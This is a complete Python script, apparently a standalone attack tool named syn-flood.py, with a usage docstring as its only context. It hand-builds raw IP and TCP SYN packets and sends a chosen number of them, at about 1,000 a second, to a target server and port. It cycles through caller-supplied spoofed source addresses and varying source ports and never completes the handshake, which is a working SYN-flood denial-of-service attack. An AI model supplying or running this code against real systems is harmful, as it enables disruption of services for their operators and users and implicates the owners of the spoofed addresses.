"""Sends SYNs and never answers what comes back.

syn-flood.py COUNT PORT SERVER SOURCE...   COUNT SYNs, 1,000 a second, from these IPv4 addresses in turn, each from another port
"""
import socket
import struct
import sys
import time

RATE, TICK = 1000, 0.02
SYN, WINDOW = 0x02, 64240


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, destination, source_port, port, sequence):
    head = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 0x50, SYN, WINDOW, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(head), 0, 0, 64, socket.IPPROTO_TCP, 0) + source + destination
    return ip + head


count, port, server, *sources = sys.argv[1:]
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
addresses = [socket.inet_aton(source) for source in sources]
target = socket.inet_aton(server)
for sent in range(int(count)):
    packet = syn(addresses[sent % len(addresses)], target, 1024 + sent * 7 % 60000, int(port), sent * 2654435761 % 2**32)
    try:
        out.sendto(packet, (server, 0))
    except OSError:
        pass
    if sent % int(RATE * TICK) == 0:
        time.sleep(TICK)
print(count)
